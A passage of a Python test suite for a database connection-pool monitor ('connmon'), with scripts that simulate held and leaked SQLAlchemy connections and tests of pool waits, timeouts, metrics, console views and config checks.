        began.release()
        time.sleep(600)   # ORM-HELD

def _lookup(session):
    return session.execute(sa.text("SELECT 1")).scalar()   # READER-SITE

@facade.reader
def api_get(context):
    _lookup(context.session)
    began.release()
    time.sleep(600)   # READER-HELD

@facade.reader
def _read_nested(context):
    context.session.execute(sa.text("SELECT 1"))   # NESTED-SITE

@facade.writer
def api_update(context):
    _read_nested(context)
    began.release()
    time.sleep(600)   # WRITER-HELD

def open_conn():
    return engine.connect()   # HANDED-SITE

def caller():
    conn = open_conn()
    began.release()
    time.sleep(600)   # HANDED-HELD
    conn.close()

def store_and_go():
    kept.append(engine.connect())   # STORED-SITE

def other_work():
    began.release()
    time.sleep(600)
""" + VIEW_CODE + r"""
for target, args in ((orm_request, ()), (api_get, (Context(),)),
                     (api_update, (Context(),)), (caller, ()),
                     (middleware, (Request(), False))):
    threading.Thread(target=target, args=args, daemon=True).start()
pool = concurrent.futures.ThreadPoolExecutor(1)
pool.submit(store_and_go).result()
pool.submit(other_work)
print("ready", all(began.acquire(timeout=60) for _ in range(6)), flush=True)
time.sleep(600)
"""

# One worker thread serving request after request, as gunicorn's gthread
# workers do (their pools are ThreadPoolExecutors).  A request of the
# handler leaks its Session; the next one runs the same handler in a new
# frame, which holds its own connection when the allocator gave it the
# leaking frame's memory (else it returns the leaked Session, and the pair
# is tried again): the case where an address tells nothing.
WORKER_SCRIPT = r"""
import concurrent.futures, json, queue, sys, threading, time
import sqlalchemy as sa
from sqlalchemy import orm

engine = sa.create_engine(sys.argv[1], **json.loads(sys.argv[2]))
Session = orm.sessionmaker(engine)
kept = []
began = threading.Semaphore(0)
frames = []       # id() of each request's frame of handle
pending = []      # the Session of the last request
reused = queue.Queue()

def handle(request):
    caller = sys._getframe(1)   # (its memory first: the one freed last)
    frames.append(id(sys._getframe()))
    del caller
    if request == "leak":
        session = Session()
        session.execute(sa.text("SELECT 1"))   # WORKER-LEAK-SITE
        pending.append(session)
    elif frames[-1] != frames[-2]:
        pending.pop().close()
        reused.put(False)
    else:
        kept.append(pending.pop())
        with engine.connect() as conn:   # WORKER-SLOW-SITE
            reused.put(True)
            time.sleep(600)   # WORKER-SLOW-HELD
""" + VIEW_CODE + r"""
worker = concurrent.futures.ThreadPoolExecutor(1)
worker.submit(middleware, Request(), True).result()
for _ in range(100):
    worker.submit(handle, "leak")
    worker.submit(handle, "next")
    if reused.get(timeout=60):
        break
print("ready", reused.empty() and frames[-1] == frames[-2], flush=True)
time.sleep(600)
"""

GREEN_ORM_SCRIPT = r"""
import eventlet
eventlet.monkey_patch()
import json, sys, time
import sqlalchemy as sa
from sqlalchemy import orm

engine = sa.create_engine(sys.argv[1], **json.loads(sys.argv[2]))
Session = orm.sessionmaker(engine)
held = []

def lookup(session):
    return session.execute(sa.text("SELECT 1")).scalar()   # GREEN-ORM-SITE

def orm_request():
    with Session() as session, session.begin():
        lookup(session)
        held.append(True)
        eventlet.sleep(600)   # GREEN-ORM-HELD

eventlet.spawn(orm_request)
while not held:
    eventlet.sleep(0.01)
print("ready", flush=True)
eventlet.sleep(600)
"""

GEVENT_ORM_SCRIPT = GREEN_ORM_SCRIPT.replace(
    "import eventlet\neventlet.monkey_patch()\n",
    "from gevent import monkey\nmonkey.patch_all()\nimport gevent\n").replace(
    "eventlet.", "gevent.")

ASYNC_ORM_SCRIPT = r"""
import asyncio, json, sys
import sqlalchemy as sa
from sqlalchemy.ext.asyncio import async_sessionmaker, create_async_engine

async def lookup(session):
    return (await session.execute(sa.text("SELECT 1"))).scalar()   # ASYNC-ORM-SITE

async def orm_request(Session, held):
    async with Session() as session, session.begin():
        await lookup(session)
        held.set()
        await asyncio.sleep(600)   # ASYNC-ORM-HELD

async def main():
    engine = create_async_engine(sys.argv[1], **json.loads(sys.argv[2]))
    held = asyncio.Event()
    request = asyncio.create_task(orm_request(async_sessionmaker(engine),
                                              held), name="request-1")
    await held.wait()
    print("ready", flush=True)
    await asyncio.sleep(600)

asyncio.run(main())
"""

MODULE_SCRIPT = r"""
import json, sys, time
import sqlalchemy as sa
from sqlalchemy import orm

engine = sa.create_engine(sys.argv[1], **json.loads(sys.argv[2]))

def lookup(session):
    return session.execute(sa.text("SELECT 1")).scalar()   # MODULE-ORM-SITE

conn = engine.connect()   # MODULE-SITE
with orm.Session(engine) as session, session.begin():
    lookup(session)
    print("ready", flush=True)
    time.sleep(600)   # MODULE-HELD
"""


def test_leak_finder_holds_orm_and_enginefacade_requests(tmp_path,
                                                         leak_daemon):
    """ORM applications' holders, each with its exact text: each
    connection is held by the request that asked for it (at the
    request's current line), though the helper that ran its first query
    returned; the pooled thread's stored connection is leaked."""
    app = ScriptApp(tmp_path, ORM_SCRIPT, mariadb_leak_url(leak_daemon),
                    "orm.py", pool_size=10)
    try:
        assert app.said == ["True"]
        at = functools.partial(place, app, source=ORM_SCRIPT)
        verdicts(leak_daemon, app, {
            at("ORM-SITE", "lookup"): at("ORM-HELD", "orm_request"),
            at("READER-SITE", "_lookup"): at("READER-HELD", "api_get"),
            at("NESTED-SITE", "_read_nested"): at("WRITER-HELD",
                                                  "api_update"),
            at("HANDED-SITE", "open_conn"): at("HANDED-HELD", "caller"),
            at("VIEW-SITE", "view"): at("MIDDLEWARE-HELD", "middleware"),
            at("STORED-SITE", "store_and_go"): "leaked"})
    finally:
        app.stop()


def test_leak_finder_worker_thread_serving_other_requests(tmp_path,
                                                         leak_daemon):
    """A worker thread whose requests leaked a Session (the view's, which
    the middleware forgot; the handler's own) and which then serves
    another request of the same handler, in a frame at the leaking
    frame's address: leaked."""
    app = ScriptApp(tmp_path, WORKER_SCRIPT, mariadb_leak_url(leak_daemon),
                    "worker.py", pool_size=10)
    try:
        assert app.said == ["True"], "no frame was given the same memory"
        at = functools.partial(place, app, source=WORKER_SCRIPT)
        verdicts(leak_daemon, app, {
            at("VIEW-SITE", "view"): "leaked",
            at("WORKER-LEAK-SITE", "handle"): "leaked",
            at("WORKER-SLOW-SITE", "handle"): at("WORKER-SLOW-HELD",
                                                 "handle")})
    finally:
        app.stop()


@pytest.mark.parametrize("runtime", ["eventlet", "gevent"])
def test_leak_finder_holds_orm_requests_in_greenlets(tmp_path, leak_daemon,
                                                     runtime):
    source = GREEN_ORM_SCRIPT if runtime == "eventlet" else GEVENT_ORM_SCRIPT
    app = ScriptApp(tmp_path, source, mariadb_leak_url(leak_daemon),
                    f"green_orm_{runtime}.py", pool_size=10)
    try:
        at = functools.partial(place, app, source=source)
        verdicts(leak_daemon, app, {
            at("GREEN-ORM-SITE", "lookup"): at("GREEN-ORM-HELD",
                                               "orm_request")})
    finally:
        app.stop()


def test_leak_finder_holds_orm_requests_in_asyncio_tasks(tmp_path,
                                                         leak_daemon):
    app = ScriptApp(tmp_path, ASYNC_ORM_SCRIPT,
                    mariadb_leak_url(leak_daemon, "aiomysql"),
                    "async_orm.py", pool_size=10)
    try:
        at = functools.partial(place, app, source=ASYNC_ORM_SCRIPT)
        verdicts(leak_daemon, app, {
            at("ASYNC-ORM-SITE", "lookup"):
                at("ASYNC-ORM-HELD", "orm_request") + " (task request-1)"})
    finally:
        app.stop()


def test_leak_finder_holds_a_module_level_script(tmp_path, leak_daemon):
    """A script holding connections at module level while it sleeps: its
    module's frame runs, so both are held there."""
    app = ScriptApp(tmp_path, MODULE_SCRIPT, mariadb_leak_url(leak_daemon),
                    "module_level.py", pool_size=10)
    try:
        at = functools.partial(place, app, source=MODULE_SCRIPT)
        held = at("MODULE-HELD", "<module>")
        verdicts(leak_daemon, app, {at("MODULE-SITE", "<module>"): held,
                                    at("MODULE-ORM-SITE", "lookup"): held})
    finally:
        app.stop()


def test_console_marks_a_sure_leak_alike_in_every_view(tmp_path,
                                                       leak_daemon,
                                                       terminal):
    """A held connection and a leaked one, past hold_warn_seconds: "*" for
    the leak in the table, the drill-down's process and long holder, and
    the sites view; "!" for the held one; the sites whole on a wide
    screen, and cut from the left of their paths (never their line and
    function) on a narrow one."""
    app = leak_app(tmp_path, leak_daemon)
    try:
        app("sleeper")
        app("leak 1")
        sleeper, leak = (leak_site("SLEEPER-SITE", "sleeper"),
                         leak_site("LEAK-SITE", "leak"))
        wait_until(lambda: sorted(
            h["held_at"] for s in sites_of(leak_daemon, "leaky.py").values()
            for h in s["long_holders"]) == [
                f"{tmp_path / leak_site('SLEEPER-HELD', 'sleeper')}",
                "thread gone"], 30, "the two verdicts")
        term = terminal("-H", leak_daemon.address, "-i", "0.2", cols=200)
        term.wait_for(lambda t: [row[-1][0] for row in table_on_screen(t)[1]
                                 ] == ["*"], "OLDEST marked * in the table")
        term.press(b"s")

        def oldest_marks(t: Terminal) -> Dict[str, str]:
            return {fields[4].rsplit("/", 1)[-1]: fields[3][0]
                    for fields in (line.rstrip().split(None, 4)
                                   for line in t.display[7:-1])
                    if len(fields) == 5 and fields[2].isdigit()}
        term.wait_for(lambda t: oldest_marks(t) == {sleeper: "!", leak: "*"},
                      "the sites' OLDEST marked")
        assert sorted(s for _, _, s in screen_sites(term)) == [
            str(tmp_path / leak), str(tmp_path / sleeper)]
        term.resize(80, 30)

        def cut_in_their_paths(t: Terminal) -> bool:
            shown = [s for _, _, s in screen_sites(t)]
            return len(shown) == 2 and all(
                s.startswith("\N{HORIZONTAL ELLIPSIS}")
                and re.search(r":[0-9]+ in (leak|sleeper)$", s)
                and any(str(tmp_path / name).endswith(s[1:])
                        for name in (leak, sleeper)) for s in shown)
        term.wait_for(cut_in_their_paths, "sites cut in their paths only")
        term.resize(200, 30)
        term.press(b"\x1b")
        term.press(b"\r")
        term.wait_text("leaky.py on ")
        def marked(t: Terminal) -> bool:   # (ages alike: either first)
            return sorted((line.split()[1][0], line.endswith("thread gone"))
                          for line in holder_lines(t)) == [("!", False),
                                                           ("*", True)]
        term.wait_for(marked, "the long holders' AGE marked")
        (proc,) = [line.split() for line in term.display[7:9]
                   if line.split()[:1] == [str(app.proc.pid)]]
        assert proc[-3][0] == "*", proc   # OLDEST (then CONNECTED SINCE)
    finally:
        app.stop()


# ===========================================================================
# Pool pressure and databases
#
# Waiting, timeouts, wait times and connect errors as the application saw
# them, invalidations, engines and databases kept apart, the application's
# own pools, the database servers setting; in the CSV and in the console at
# 80x24.
# ===========================================================================


# The application of these tests: engines (one per URL; the first is the
# one "crowd" uses), on threads or, with mode "asyncio", on tasks of an
# event loop run by a thread of its own.  "crowd N HOLD" starts N threads
# (tasks) that each check out a connection and hold it HOLD seconds,
# timing their own wait; "use I" checks out and returns a connection of
# engine I, answering the seconds it waited (a process is attached from
# its first use of a pool); "outcomes" answers once all are done, with each
# one's outcome and seconds waited, as JSON.
PRESSURE_APP_SCRIPT = r'''
import asyncio, json, sys, threading, time
import sqlalchemy as sa
from sqlalchemy.ext.asyncio import create_async_engine

urls, options = json.loads(sys.argv[1]), json.loads(sys.argv[2])
mode = options.pop("mode", "threads")
outcomes, held, started = [], [], []

def answer(*words):
    print(*words, flush=True)

if mode == "asyncio":
    loop = asyncio.new_event_loop()
    threading.Thread(target=loop.run_forever, daemon=True).start()
    engines = [create_async_engine(url, **options) for url in urls]

    async def worker(hold):
        began = time.monotonic()
        try:
            conn = await engines[0].connect()
        except sa.exc.TimeoutError:
            outcomes.append(["timeout", time.monotonic() - began])
            return
        outcomes.append(["ok", time.monotonic() - began])
        await asyncio.sleep(hold)
        await conn.close()

    def crowd(n, hold):
        for _ in range(n):
            started.append(asyncio.run_coroutine_threadsafe(worker(hold),
                                                            loop))

    def hold_one(index):
        async def connect():
            conn = await engines[index].connect()
            await conn.exec_driver_sql("SELECT 1")
            return conn
        held.append(asyncio.run_coroutine_threadsafe(connect(),
                                                     loop).result(30))

    def use(index):
        async def connect_and_close():
            began = time.monotonic()
            conn = await engines[index].connect()
            waited = time.monotonic() - began
            await conn.close()
            return waited
        return asyncio.run_coroutine_threadsafe(connect_and_close(),
                                                loop).result(30)
else:
    engines = [sa.create_engine(url, **options) for url in urls]

    def worker(hold):
        began = time.monotonic()
        try:
            conn = engines[0].connect()
        except sa.exc.TimeoutError:
            outcomes.append(["timeout", time.monotonic() - began])
            return
        outcomes.append(["ok", time.monotonic() - began])
        time.sleep(hold)
        conn.close()

    def crowd(n, hold):
        for _ in range(n):
            thread = threading.Thread(target=worker, args=(hold,))
            thread.start()
            started.append(thread)

    def hold_one(index):
        conn = engines[index].connect()
        conn.exec_driver_sql("SELECT 1")
        held.append(conn)

    def use(index):
        began = time.monotonic()
        conn = engines[index].connect()
        waited = time.monotonic() - began
        conn.close()
        return waited

for line in sys.stdin:
    cmd, *args = line.split()
    if cmd == "crowd":
        crowd(int(args[0]), float(args[1]))
    elif cmd == "hold":
        hold_one(int(args[0]))
    elif cmd == "use":   # a process is attached from its first pool use
        answer("ok", use(int(args[0])))
        continue
    elif cmd == "outcomes":
        for job in started:
            (job.result if mode == "asyncio" else job.join)(30)
        answer("ok", json.dumps(outcomes, separators=(",", ":")))
        continue
    answer("ok")
'''


class PressureApp(App):
    source = PRESSURE_APP_SCRIPT


@pytest.fixture
def pressure_apps(apps):
    """Start a PressureApp with engines for ``urls``."""
    def start(urls: List[str], progname: str, **options: Any) -> App:
        return apps(json.dumps(urls), progname, app_class=PressureApp,
                    **options)
    return start


def plain_table(daemon: Daemon, *args: str) -> str:
    """connmon --once, the plain table."""
    return subprocess.run(
        [sys.executable, "-m", "connmon_console", "--once", "-H",
         daemon.address, *args], cwd=HERE, env=CHILD_ENV,
        capture_output=True, text=True, timeout=30, check=True).stdout


def pressure_daemon(tmp_path, extra_config: str = "") -> Tuple[Daemon, int]:
    """A daemon serving /metrics too; and its metrics port."""
    port = free_port()
    return Daemon(tmp_path, extra_config=f"metrics_port: {port}\n"
                  f"metrics_bind: 127.0.0.1\n{extra_config}"), port


PRESSURE_BACKENDS = {
    "mysql-threads": (MYSQL_URL, "threads"),
    "postgresql-threads": (POSTGRESQL_URL, "threads"),
    "mysql-asyncio": (MYSQL_URL.replace("+pymysql", "+aiomysql"), "asyncio"),
    "postgresql-asyncio": (
        POSTGRESQL_URL.replace("+psycopg2", "+asyncpg"), "asyncio"),
}


@pytest.mark.parametrize("backend", list(PRESSURE_BACKENDS))
def test_waiting_timeouts_and_wait_times_as_the_app_saw_them(
        backend, tmp_path, pressure_apps):
    """pool_size=2, max_overflow=0, pool_timeout=1 and six threads (or
    tasks) that each want a connection for 3 s: two get one, four wait
    and time out.  The daemon shows them waiting while they wait, counts
    the timeouts the app counted, and the waits the app timed."""
    url, mode = PRESSURE_BACKENDS[backend]
    require_database(url.replace("+aiomysql", "+pymysql")
                     .replace("+asyncpg", "+psycopg2"))
    daemon, metrics_port = pressure_daemon(tmp_path)
    try:
        name = f"crowd-{mode}.py"
        app = pressure_apps([f"{url}?plugin=connmon&connmon_addr="
                             f"{daemon.address}"], name, mode=mode,
                            pool_size=2, max_overflow=0, pool_timeout=1)
        warm_up = float(app("use 0")[0])   # one wait before the crowd's
        daemon.wait_row(name, nproc=1)
        crowd_began = time.monotonic()
        app("crowd 6 3")

        def waiting() -> Optional[Tuple[dict, dict]]:
            snapshot = daemon.snapshot()
            (row,) = [r for r in snapshot["rows"] if r["progname"] == name]
            return (snapshot, row) if row["waiting"] >= 3 else None
        snapshot, row = wait_until(waiting, what="checkouts waiting")
        assert time.monotonic() - crowd_began < 1.0, "seen only after the " \
            "timeouts: the waits were not seen as they happened"
        assert 10 <= row["longest_wait_ms"] <= (
            time.monotonic() - crowd_began) * 1000
        assert snapshot["waiting"] == row["waiting"]
        (server,) = snapshot["databases"]
        assert server["waiting"] == row["waiting"]
        # The timeouts, then the last second's longest wait: about 1 s.
        row = wait_until(lambda: (lambda r: r if r["timeouts_total"] == 4 and (
            r["wait_max_ms"] or 0) >= 900 else None)(daemon.row(name)), 5,
            "four timeouts and the waits' maximum")
        wait_max_ms = row["wait_max_ms"]
        table = plain_table(daemon)
        assert re.search(rf"{re.escape(name)}.*\n    waiting \d+ \(max "
                         r"\d+.*timeouts \d+/s \(4\)", table), table

        outcomes = json.loads(app("outcomes", timeout=60)[0])
        timeouts = [waited for outcome, waited in outcomes
                    if outcome == "timeout"]
        assert len(outcomes) == 6 and len(timeouts) == 4
        row = daemon.wait_row(name, timeouts_total=4, waiting=0, ckout=0,
                              waits_total=7)
        assert row["maxwaiting"] >= 4
        assert daemon.snapshot()["max_waiting"] >= 4
        # connmon times the wait inside the pool, the app around it: never
        # longer, and short of it only by the engine's own few steps.
        app_waits = warm_up + sum(waited for _, waited in outcomes)
        assert app_waits - 0.05 * 7 <= row["wait_seconds_total"] <= app_waits
        assert row["connects_total"] >= 2 and row["connect_seconds_total"] > 0
        assert wait_max_ms <= round(max(waited for _, waited in outcomes)
                                    * 1000, 1)   # (as the snapshot rounds)

        # /metrics: the OpenTelemetry names, equal to the snapshot.
        snapshot = daemon.snapshot()
        samples = metric_samples(http_get(metrics_port, "/metrics")[2])
        assert samples == expected_samples(snapshot)
        host = socket.gethostname()
        assert samples[("db_client_connection_timeouts_total", host,
                        name)] == 4
        assert samples[("db_client_connection_wait_time_seconds_count",
                        host, name)] == 7
        assert samples[("db_client_connection_pending_requests", host,
                        name)] == 0
        assert samples[("connmon_max_pending_requests", host, name)] >= 4
    finally:
        daemon.stop()


def test_failing_pre_ping_counts_as_an_invalidation(daemon, apps):
    require_database(MYSQL_URL)
    app = apps(monitored(MYSQL_URL, daemon), "preping.py", pool_size=2,
               pool_pre_ping=True)
    app("hold 1")
    (thread_id,) = app("backend_pid")
    app("release 1")
    daemon.wait_row("preping.py", conn=1, ckout=0, invalidations_total=0)
    import sqlalchemy as sa
    admin = sa.create_engine(MYSQL_URL, poolclass=sa.pool.NullPool)
    with admin.connect() as conn:
        conn.execute(sa.text(f"KILL CONNECTION {int(thread_id)}"))
    app("query 1")   # the pre-ping fails: invalidated, connected anew
    row = daemon.wait_row("preping.py", conn=1, ckout=0,
                          invalidations_total=1)
    assert row["connect_errors_total"] == 0 and row["timeouts_total"] == 0
    assert row["connects_total"] == 2
    app("hold 1")
    app("invalidate")   # Connection.invalidate(): one more
    daemon.wait_row("preping.py", invalidations_total=2)


def test_two_engines_to_two_databases_kept_apart(tmp_path, pressure_apps):
    """nova's nova and nova_api: one process, engines to two databases of
    one server (and one to another server): --procs and the databases
    view show each pool apart, the row keeps the sums."""
    require_database(POSTGRESQL_URL)
    require_database(MYSQL_URL)
    daemon = Daemon(tmp_path, extra_config=(
        "database_servers:\n    127.0.0.1:5432 max_connections=100\n"))
    try:
        query = f"?plugin=connmon&connmon_addr={daemon.address}"
        api_url = POSTGRESQL_URL.rsplit("/", 1)[0] + "/postgres"
        app = pressure_apps([POSTGRESQL_URL + query, api_url + query,
                             MYSQL_URL + query], "nova-like.py",
                            pool_size=3, max_overflow=1)
        for index in (0, 0, 1, 2):
            app(f"hold {index}")
        row = daemon.wait_row("nova-like.py", procs=True, conn=4, ckout=4,
                              limit=12)
        (proc,) = row["procs"]
        pools = {(p["endpoint"]["backend"], p["endpoint"]["database"]):
                 (p["conn"], p["ckout"], p["limit"]) for p in proc["pools"]}
        assert pools == {("postgresql", "test"): (2, 2, 4),
                         ("postgresql", "postgres"): (1, 1, 4),
                         ("mysql", "test"): (1, 1, 4)}
        for pool in proc["pools"]:
            endpoint = pool["endpoint"]
            assert endpoint["host"] == "127.0.0.1"
            assert endpoint["port"] == {"postgresql": 5432,
                                        "mysql": 3306}[endpoint["backend"]]
            assert endpoint["user"] == {"postgresql": "postgres",
                                        "mysql": "root"}[endpoint["backend"]]
        servers = {s["server"]: s for s in daemon.snapshot()["databases"]}
        postgres, mysql = servers["127.0.0.1:5432"], servers["127.0.0.1:3306"]
        assert (postgres["conn"], postgres["ckout"], postgres["limit"],
                postgres["max_connections"], postgres["nproc"],
                postgres["nprog"]) == (3, 3, 8, 100, 1, 1)
        assert {d["database"]: (d["conn"], d["ckout"], d["limit"], d["users"])
                for d in postgres["databases"]} == {
            "test": (2, 2, 4, ["postgres"]),
            "postgres": (1, 1, 4, ["postgres"])}
        assert (mysql["conn"], mysql["max_connections"]) == (1, None)
        assert [(p["progname"], p["conn"]) for p in postgres["programs"]] == [
            ("nova-like.py", 3)]
        table = plain_table(daemon, "--procs")
        assert "postgresql://postgres@127.0.0.1:5432/postgres  conn 1" in table
        assert "127.0.0.1:5432 (postgresql): conn 3 of 100" in table
    finally:
        daemon.stop()


def test_no_password_query_or_url_on_the_wire(daemon, apps):
    """Each pool reports backend, host, port, database and user, and
    nothing else of its URL; connmon_endpoint=0 not even that."""
    require_database(POSTGRESQL_URL)
    relay = Relay(daemon.port)
    password = "pr3ssure-Pa55"   # trust auth: the server ignores it
    url = POSTGRESQL_URL.replace("postgres@", f"postgres:{password}@")
    query = (f"connect_timeout=7&application_name=sekrit&plugin=connmon"
             f"&connmon_addr=127.0.0.1:{relay.port}")
    reported = apps(f"{url}?{query}", "endpoint.py")
    hidden = apps(f"{url}?{query}&connmon_endpoint=0", "noendpoint.py")
    for app in (reported, hidden):
        app("hold 1")
        daemon.wait_row(app.progname, conn=1, ckout=1)
    relay.close()
    with relay.lock:
        wire = bytes(relay.received)
    messages = [json.loads(line) for line in wire.splitlines()]
    endpoints = [pool[2] for m in messages for pool in m.get("pools", [])]
    assert {"backend": "postgresql", "host": "127.0.0.1", "port": 5432,
            "database": "test", "user": "postgres"} in endpoints
    assert None in endpoints   # connmon_endpoint=0
    for secret in (password.encode(), b"connect_timeout", b"sekrit",
                   b"://", b"psycopg2", b"plugin", b"connmon_"):
        assert secret not in wire, secret
    (row,) = [r for r in daemon.snapshot(procs=True)["rows"]
              if r["progname"] == "noendpoint.py"]
    assert row["procs"][0]["pools"][0]["endpoint"] is None


def test_report_endpoints_off_in_the_config(tmp_path):
    """report_endpoints: 0 in the service's section: no engine of the
    service reports its database; a bad value fails create_engine()."""
    import sqlalchemy as sa
    daemon = Daemon(tmp_path, extra_config="report_endpoints: 0\n")
    try:
        url = (f"sqlite:///{tmp_path}/quiet.sqlite?plugin=connmon"
               f"&connmon_service=test&connmon_config={daemon.config}")
        engine = sa.create_engine(url)
        with engine.connect():
            (row,) = wait_until(lambda: [r for r in daemon.snapshot(
                procs=True)["rows"] if r["ckout"] == 1], 10, "the checkout")
        (pool,) = row["procs"][0]["pools"]
        assert pool["endpoint"] is None and pool["conn"] == 1
        assert [s["server"] for s in daemon.snapshot()["databases"]] == [None]
        daemon.config.write_text(daemon.config.read_text().replace(
            "report_endpoints: 0", "report_endpoints: no"))
        message = "report_endpoints: expected 1 (on) or 0 (off), got 'no'"
        with pytest.raises(connmon.ConfigError, match=re.escape(message)):
            sa.create_engine(url)
        # connmond's --check-config knows the applications' option too.
        result = run_connmond("--check-config", "-c", str(daemon.config),
                              "-s", "test")
        assert result.returncode == 2 and message in result.stderr
    finally:
        daemon.stop()


def test_connect_errors_counted(daemon):
    """A database that cannot be reached: each failed checkout is a
    connect error, not a timeout; nothing of it reaches the app but the
    driver's own error."""
    import sqlalchemy as sa
    engine = sa.create_engine(
        f"mysql+pymysql://root@127.0.0.1:{free_port()}/test?plugin=connmon"
        f"&connmon_addr={daemon.address}")
    for _ in range(2):
        with pytest.raises(sa.exc.OperationalError):
            engine.connect()
    row = daemon.wait_row(connmon.progname(), connect_errors_total=2)
    assert (row["timeouts_total"], row["connects_total"], row["conn"],
            row["waits_total"]) == (0, 0, 0, 2)


def test_connect_time_is_the_drivers_connect(daemon, tmp_path):
    """A connect that takes 0.3 s counts 0.3 s (from the moment the pool
    calls the driver to the pool's connect event), and a checkout of an
    open connection counts none."""
    import sqlite3

    import sqlalchemy as sa

    def slow_connect():
        time.sleep(0.3)
        return sqlite3.connect(str(tmp_path / "slow.db"))

    engine = sa.create_engine(
        f"sqlite:///{tmp_path}/slow.db?plugin=connmon"
        f"&connmon_addr={daemon.address}", creator=slow_connect)
    for _ in range(3):
        engine.connect().close()
    row = daemon.wait_row(connmon.progname(), connects_total=1)
    assert 0.3 <= row["connect_seconds_total"] < 0.45, row


@pytest.mark.parametrize("how", ["poolclass", "pool", "nullpool"])
def test_the_apps_own_pool_keeps_working(how, daemon, tmp_path, caplog):
    """poolclass= with the plugin is measured; pool= works and says, in
    one log line, what is not measured; an unlimited pool never waits."""
    import logging
    import sqlalchemy as sa
    url = (f"sqlite:///{tmp_path}/own.sqlite?plugin=connmon"
           f"&connmon_addr={daemon.address}")
    options: Dict[str, Any] = {
        "poolclass": {"pool": sa.pool.QueuePool, "poolclass":
                      sa.pool.QueuePool, "nullpool": sa.pool.NullPool}[how],
        "pool_size": 1, "max_overflow": 0, "pool_timeout": 0.3}
    if how == "nullpool":
        options = {"poolclass": sa.pool.NullPool}
    if how == "pool":
        import sqlite3
        options = {"pool": sa.pool.QueuePool(
            lambda: sqlite3.connect(f"{tmp_path}/own.sqlite"), pool_size=1,
            max_overflow=0, timeout=0.3)}
    with caplog.at_level(logging.WARNING, logger="connmon"):
        engine = sa.create_engine(url, **options)
    measured = how != "pool"
    assert isinstance(engine.pool, connmon.MeasuredPool) == measured
    assert isinstance(engine.pool, sa.pool.NullPool if how == "nullpool"
                      else sa.pool.QueuePool)
    notes = [r.getMessage() for r in caplog.records
             if "not measured" in r.getMessage()]
    assert len(notes) == (0 if measured else 1)
    progname = connmon.progname()
    held = engine.connect()   # the first use attaches the process
    if how != "nullpool":
        with pytest.raises(sa.exc.TimeoutError):
            engine.connect()
    else:
        engine.connect().close()
    held.close()
    engine.dispose()   # the recreated pool reports alike
    with engine.connect() as conn:
        conn.exec_driver_sql("SELECT 1")
    row = daemon.wait_row(progname, ckout=0, ckout_total=2 if how !=
                          "nullpool" else 3)
    assert row["waiting"] == 0 and row["maxwaiting"] <= 1
    assert row["timeouts_total"] == (1 if how in ("poolclass",) else 0)
    assert row["waits_total"] == {"poolclass": 3, "pool": 0,
                                  "nullpool": 3}[how]


def test_engines_sharing_one_pool_count_it_once(daemon, tmp_path):
    """Two engines given one pool= of the application's: its connections
    and its capacity are counted once."""
    import sqlite3
    import sqlalchemy as sa
    url = (f"sqlite:///{tmp_path}/shared.sqlite?plugin=connmon"
           f"&connmon_addr={daemon.address}")
    pool = sa.pool.QueuePool(
        lambda: sqlite3.connect(f"{tmp_path}/shared.sqlite"), pool_size=3,
        max_overflow=0)
    first, second = (sa.create_engine(url, pool=pool) for _ in range(2))
    held = [first.connect(), second.connect()]
    progname = connmon.progname()
    daemon.wait_row(progname, conn=2, ckout=2, limit=3)
    for conn in held:
        conn.close()
    daemon.wait_row(progname, conn=2, ckout=0, limit=3)
    pool.dispose()
    daemon.wait_row(progname, conn=0, ckout=0, limit=3)


def test_database_servers_setting_is_checked(tmp_path):
    path = pathlib.Path(write(tmp_path, textwrap.dedent("""\
        [connmon_service_a]
        name: a
        database_servers:
            db1:3306 max_connections=151
            db2 max_connections=500
        nodes:
            n1 hostname=127.0.0.1:5999
        """)))
    result = run_connmond("-c", str(path), "-s", "a", "--check-config")
    assert result.returncode == 2
    assert "database_servers: 'db2' needs its port" in result.stderr
    path.write_text(path.read_text().replace("db2 ", "db2:5432 "))
    assert run_connmond("-c", str(path), "-s", "a", "--check-config"
                        ).returncode == 0
    path.write_text(path.read_text().replace("=500", "=lots"))
    result = run_connmond("-c", str(path), "-s", "a", "--check-config")
    assert "expected HOST:PORT max_connections=N" in result.stderr


def test_pressure_in_the_csv_columns(tmp_path, apps):
    csv_path = tmp_path / "pressure.csv"
    daemon = Daemon(tmp_path, extra_config=(
        f"csv_dump: {csv_path}\ncsv_interval: 0.2\ncsv_columns: progname "
        "waiting maxwaiting timeouts_total wait_seconds_total "
        "invalidations_total connect_errors_total\n"))
    try:
        app = apps(f"sqlite:///{tmp_path}/c.sqlite?plugin=connmon"
                   f"&connmon_addr={daemon.address}", "csvpressure.py",
                   pool_size=1, max_overflow=0)
        app("hold 1")
        app("invalidate")
        daemon.wait_row("csvpressure.py", invalidations_total=1)
        rows = wait_until(lambda: [r for r in csv_rows(csv_path)
                                   if r["invalidations_total"] == "1"], 10,
                          "the invalidation in the CSV")
        assert rows[-1]["progname"] == "csvpressure.py"
        assert rows[-1]["timeouts_total"] == "0"
        assert float(rows[-1]["wait_seconds_total"]) > 0
    finally:
        daemon.stop()


def screen_row(t: Terminal, progname: str) -> Dict[str, str]:
    """A table row on screen as heading -> field, alarm markers taken off
    ({} while it is not on screen); "y" is its line.  Which columns are
    there depends on the width (see COLUMNS' drop order)."""
    heads, _ = table_on_screen(t)
    marks = connmon_console.ABOVE + connmon_console.LEAKED
    for y, line in enumerate(t.display):
        fields = line.split()
        if 7 <= y < len(t.display) - 1 and len(heads) > 2 and (
                len(fields) == len(heads) and fields[1] == progname):
            return {"y": y, **{head: field.lstrip(marks)
                               for head, field in zip(heads, fields)}}
    return {}


def test_console_shows_waiting_programs_and_databases_at_80x24(
        tmp_path, apps, pressure_apps, terminal):
    """At 80x24: WAIT and TMOUT/S on screen, a waiting program's row in
    the alarm's colours, its sites first in the sites view, its pressure
    and pools in the drill-down, and the databases view against the
    server's max_connections."""
    require_database(MYSQL_URL)
    daemon = Daemon(tmp_path, extra_config=(
        "database_servers:\n    127.0.0.1:3306 max_connections=151\n"))
    try:
        query = f"?plugin=connmon&connmon_addr={daemon.address}"
        calm = apps(f"sqlite:///{tmp_path}/calm.sqlite{query}", "calm.py")
        calm("hold 5")
        crowded = pressure_apps([MYSQL_URL + query], "wait.py",
                                pool_size=2, max_overflow=0, pool_timeout=20)
        crowded("crowd 6 25")
        daemon.wait_row("wait.py", waiting=4, ckout=2)
        term = terminal("-H", daemon.address, "-i", "0.2", cols=80,
                        lines=24)
        # At 80 columns WAIT and TMOUT/S stay (the MAX* group goes
        # first); the table starts sorted by CONN, biggest first.
        term.wait_for(lambda t: {key: screen_row(t, "wait.py").get(key)
